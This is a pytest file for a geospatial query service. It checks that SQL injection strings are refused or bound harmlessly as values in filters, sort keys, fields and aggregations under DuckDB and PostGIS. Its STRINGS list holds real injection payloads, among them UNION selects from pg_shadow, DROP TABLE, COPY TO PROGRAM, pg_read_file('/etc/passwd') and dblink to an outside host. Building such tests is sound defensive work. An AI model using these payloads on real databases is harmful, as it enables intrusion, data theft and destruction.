"""Strings that published lists of SQL injections have, and functions that read files, put wherever a question has room for text.

Each is refused with a `FilterError`, or is a bound value that does what text does: it equals nothing here.
"""

from __future__ import annotations

import json
from contextlib import suppress

import pytest

from geo_service.errors import FilterError
from geo_service.query.criteria import parse_box, parse_fields, parse_sort, parse_time
from geo_service.query.dialects import DuckdbDialect, PostgisDialect
from geo_service.query.filters import parse_filter
from geo_service.query.questions import Aggregate, Aggregation, Features, Measure, SortKey
from geo_service.query.statements import aggregate_statement, count_statement, features_statement
from tests.filter_sql import assert_nothing_from_outside
from tests.filter_worlds import VILLAGES, duckdb_asker, in_postgis

# What they run is run by the other tests of filters too; tracing would double their time.

DIALECTS = [DuckdbDialect(), PostgisDialect()]

# After OWASP's testing guide, the lists of sqlmap and of PayloadsAllTheThings, and the functions of both databases that read files, start
# programs, wait or reach other servers.
STRINGS = [
    "' OR '1'='1",
    "' OR 1=1--",
    "' OR 1=1 -- -",
    "' OR 1=1#",
    "' OR 1=1/*",
    "') OR ('1'='1",
    "')) OR (('1'='1' --",
    '" OR ""="',
    '" OR 1=1 --',
    "' OR 'x'='x';--",
    "1 OR 1=1",
    "1' ORDER BY 10--+",
    "admin'--",
    "admin'/*",
    "' UNION SELECT NULL,NULL,NULL--",
    "' UNION ALL SELECT 1,version(),3--",
    "-1 UNION SELECT usename, passwd FROM pg_shadow",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "1; DROP TABLE villages",
    "'; DROP TABLE villages; --",
    "'; DELETE FROM villages WHERE '1'='1",
    "'; UPDATE villages SET households = 0; --",
    "'; INSERT INTO villages (fid) VALUES (0); --",
    "'; EXEC xp_cmdshell('dir'); --",
    "x'; COPY (SELECT 1) TO PROGRAM 'id'; --",
    "'; COPY villages TO '/var/out.csv'; --",
    "'; ATTACH '/etc/passwd' AS x; --",
    "'; INSTALL httpfs; LOAD httpfs; --",
    "'; PRAGMA database_list; --",
    "'; SET enable_external_access=true; --",
    "'; CALL pragma_version(); --",
    "'||(SELECT version())||'",
    "'||pg_sleep(10)--",
    "'; SELECT pg_sleep(10); --",
    "1 AND (SELECT 1 FROM pg_sleep(10))",
    "1 AND 1=(SELECT COUNT(*) FROM tabname); --",
    "' AND 1=CAST((SELECT current_user) AS int)--",
    "' AND ascii(substring((SELECT current_database()),1,1))>64--",
    "' HAVING 1=1--",
    "' GROUP BY fid HAVING 1=1--",
    "' AND EXTRACTVALUE(1, CONCAT(0x5c, version()))--",
    "' WAITFOR DELAY '0:0:5'--",
    "' AND SLEEP(5)#",
    "\\' OR 1=1 --",
    "\\'; DROP TABLE villages; --",
    "%' OR '1'='1' --",
    "%27%20OR%201%3D1--",
    "' /*!50000OR*/ 1=1 --",
    "'/**/OR/**/1=1--",
    "'+OR+1=1--",
    "' OR 1=1\n--",
    "'\tOR\t1=1",
    "ʼ OR 1=1 --",
    "＇ OR 1=1 --",
    "’ OR ’1’=’1",
    "ʹ; DROP TABLE villages",
    "$$; DROP TABLE villages; $$",
    "$tag$x$tag$",
    "$1",
    ":param_1",
    "%(param_1)s",
    "%s",
    "?",
    "{0}",
    "{{7*7}}",
    "${jndi:ldap://example.invalid/a}",
    "E'\\\\x27'",
    "U&'\\0027'",
    "x'27'",
    "0x27",
    "CHR(39)||CHR(39)",
    "read_csv('/etc/passwd')",
    "read_csv_auto('/etc/passwd')",
    "read_parquet('/etc/passwd')",
    "read_json('/etc/passwd')",
    "read_text('/etc/passwd')",
    "read_blob('/etc/passwd')",
    "parquet_scan('/etc/passwd')",
    "sniff_csv('/etc/passwd')",
    "glob('/*')",
    "getenv('HOME')",
    "query('SELECT 1')",
    "query_table('villages')",
    "ST_Read('/etc/passwd')",
    "sqlite_scan('/var/x', 'y')",
    "postgres_scan('', '', '')",
    "duckdb_secrets()",
    "which_secret('s3://x', 's3')",
    "current_setting('data_directory')",
    "pg_read_file('/etc/passwd')",
    "pg_read_binary_file('/etc/passwd')",
    "pg_ls_dir('.')",
    "pg_stat_file('/etc/passwd')",
    "pg_sleep(10)",
    "pg_terminate_backend(1)",
    "pg_reload_conf()",
    "lo_import('/etc/passwd')",
    "lo_export(1, '/var/x')",
    "lo_from_bytea(0, 'x')",
    "dblink('host=example.invalid', 'SELECT 1')",
    "dblink_connect('host=example.invalid')",
    "query_to_xml('SELECT 1', true, true, '')",
    "database_to_xml(true, true, '')",
    "xmlparse(document '<!DOCTYPE x>')",
    "version()",
    "current_user",
    "fid FROM villages; --",
    'fid" FROM pg_shadow; --',
    'households" DESC; DROP TABLE villages; --',
    "households; SELECT 1",
    "(SELECT 1)",
    "(CASE WHEN 1=1 THEN fid ELSE id END)",
    "villages.fid",
    "bbox",
    "rowid",
    "ctid",
    "xmin",
    "tableoid",
    "*",
    "",
]


@pytest.fixture(scope="module")
def askers():
    return [(DIALECTS[0], duckdb_asker(VILLAGES))]


@pytest.fixture(scope="module")
def postgis():
    with in_postgis(VILLAGES) as ask:
        yield ask


def quoted(text):
    return "'" + text.replace("'", "''") + "'"


def value_filters(text):
    """The text where a value belongs."""
    name = {"property": "village_name"}
    trees = [
        {"op": "=", "args": [name, text]},
        {"op": "in", "args": [name, [text, text + "x"]]},
        {"op": "like", "args": [name, text or "x"]},
        {"op": "like", "args": [{"op": "casei", "args": [name]}, {"op": "casei", "args": [text or "x"]}]},
        {"op": "between", "args": [name, text, text]},
        {"op": "=", "args": [{"op": "casei", "args": [name]}, {"op": "casei", "args": [text]}]},
    ]
    return [parse_filter(tree) for tree in trees] + [
        parse_filter(f"village_name = {quoted(text)}"),
        parse_filter(f"village_name LIKE {quoted(text or 'x')}"),
    ]


def statements(tree, dialect):
    source = VILLAGES.source(dialect)
    features = Features(filter=tree)
    yield features_statement(source, VILLAGES.queryables, features, dialect, limit=3, after=(2,))
    yield count_statement(source, VILLAGES.queryables, features, dialect)
    aggregation = Aggregation(("adm1_pcode",), (Measure(),), features)
    yield aggregate_statement(source, VILLAGES.queryables, aggregation, dialect)


@pytest.mark.parametrize("text", STRINGS)
def test_a_text_is_bound_wherever_a_value_belongs(text):
    for tree in value_filters(text):
        for dialect in DIALECTS:
            for statement in statements(tree, dialect):
                sql, values = dialect.compile(statement)
                assert_nothing_from_outside(sql, VILLAGES.queryables)
                bound = values if isinstance(values, list) else values.values()
                assert any(isinstance(one, str) for one in bound)


def test_a_bound_text_finds_nothing_and_changes_nothing_in_duckdb(askers):
    check_harmless(*askers[0])


@pytest.mark.postgis
@pytest.mark.xdist_group("postgis")
def test_a_bound_text_finds_nothing_and_changes_nothing_in_postgis(postgis):
    check_harmless(DIALECTS[1], postgis)


def check_harmless(dialect, ask):
    source = VILLAGES.source(dialect)
    everything = count_statement(source, VILLAGES.queryables, Features(), dialect)
    before = ask(everything)
    for text in STRINGS:
        for i, tree in enumerate(value_filters(text)):
            found = ask(count_statement(source, VILLAGES.queryables, Features(filter=tree), dialect))
            # `*` and `%…` are patterns in their own right.
            if i not in {2, 3, 7}:
                assert found == [(0,)], text
        by_id = Features(ids=(text,))
        assert ask(count_statement(source, VILLAGES.queryables, by_id, dialect)) == [(0,)]
    assert ask(everything) == before == [(40,)]


OWN = set(VILLAGES.queryables.names())


@pytest.mark.parametrize("text", STRINGS)
def test_a_text_names_no_property_function_operator_or_key(text):
    trees = [
        {"op": "=", "args": [{"property": text}, 1]},
        {"op": "isNull", "args": [{"property": text}]},
        {"op": "s_intersects", "args": [{"property": text}, {"type": "Point", "coordinates": [1, 2]}]},
        {"op": text, "args": [{"property": "fid"}, 1]},
        {"op": "=", "args": [{"op": text, "args": [{"property": "fid"}]}, 1]},
        {"op": "=", "args": [{"function": {"name": text, "args": []}}, 1]},
        {"op": "=", "args": [{"property": "fid"}, {text: 1}]},
        {"op": "=", "args": [{"property": "fid", text: 1}, 1]},
        {"op": "=", "args": [{"property": "fid"}, 1], text: 1},
        {"op": "=", "args": [{"property": "interviewed_on"}, {"date": text}]},
        {"op": "=", "args": [{"property": "interviewed_on"}, {"timestamp": text}]},
        {"op": "t_after", "args": [{"property": "interviewed_on"}, {"interval": [text, "2024-01-01"]}]},
        {"op": "s_intersects", "args": [{"property": "geometry"}, {"type": text, "coordinates": [1, 2]}]},
        {
            "op": "s_intersects",
            "args": [{"property": "geometry"}, {"type": "Point", "coordinates": [text, 2]}],
        },
        {"op": "s_intersects", "args": [{"property": "geometry"}, {"bbox": [text, 1, 2, 3]}]},
        {
            "op": "S_DWITHIN",
            "args": [{"property": "geometry"}, {"type": "Point", "coordinates": [1, 2]}, 5, text],
        },
        {text: [{"property": "fid"}, 1]},
    ]
    for tree in trees:
        for given in (tree, json.dumps(tree)):
            with pytest.raises(FilterError):
                compiled(parse_filter(given))


def compiled(tree):
    for dialect in DIALECTS:
        for statement in statements(tree, dialect):
            assert_nothing_from_outside(dialect.compile(statement)[0], VILLAGES.queryables)


@pytest.mark.parametrize("text", STRINGS)
def test_a_text_is_no_filter_or_one_without_anything_of_its_own_in_the_sql(text):
    for written in (text, f"village_name = '{text}'", f"{text} = 1", f"fid = {text}", f"fid IN ({text})"):
        # What is not refused is CQL2 of this collection's properties, such as `fid = 1 OR 1=1`, or has the text as a value.
        with suppress(FilterError):
            compiled(parse_filter(written))


@pytest.mark.parametrize("text", STRINGS)
def test_a_text_is_no_sort_key_field_box_time_or_measure(text):
    for dialect in DIALECTS:
        source = VILLAGES.source(dialect)
        for features in (
            Features(sort=(SortKey(text),)),
            Features(fields=(text,)),
            Features(fields=("fid", text)),
        ):
            with pytest.raises(FilterError):
                features_statement(source, VILLAGES.queryables, features, dialect)
        for aggregation in (
            Aggregation(by=(text,)),
            Aggregation(measures=(Measure(Aggregate.SUM, text),)),
            Aggregation(measures=(Measure(Aggregate.COUNT, text),)),
        ):
            with pytest.raises(FilterError):
                aggregate_statement(source, VILLAGES.queryables, aggregation, dialect)
    for parse in (parse_box, parse_time):
        with pytest.raises(FilterError):
            parse(text)
    for parse in (parse_sort, parse_fields):
        try:
            names = [getattr(one, "name", one) for one in parse(text)]
        except FilterError:
            continue
        assert not set(names) & OWN


@pytest.mark.parametrize("text", STRINGS)
def test_a_name_of_a_measure_is_a_word_or_refused(text):
    aggregation = Aggregation(measures=(Measure(name=text),))
    for dialect in DIALECTS:
        if text and text.replace("_", "a").isalnum() and not text[0].isdigit():
            sql, _ = dialect.compile(
                aggregate_statement(VILLAGES.source(dialect), VILLAGES.queryables, aggregation, dialect)
            )
            assert_nothing_from_outside(sql, VILLAGES.queryables, (text,))
            continue
        if not text:
            continue
        with pytest.raises(FilterError):
            aggregate_statement(VILLAGES.source(dialect), VILLAGES.queryables, aggregation, dialect)
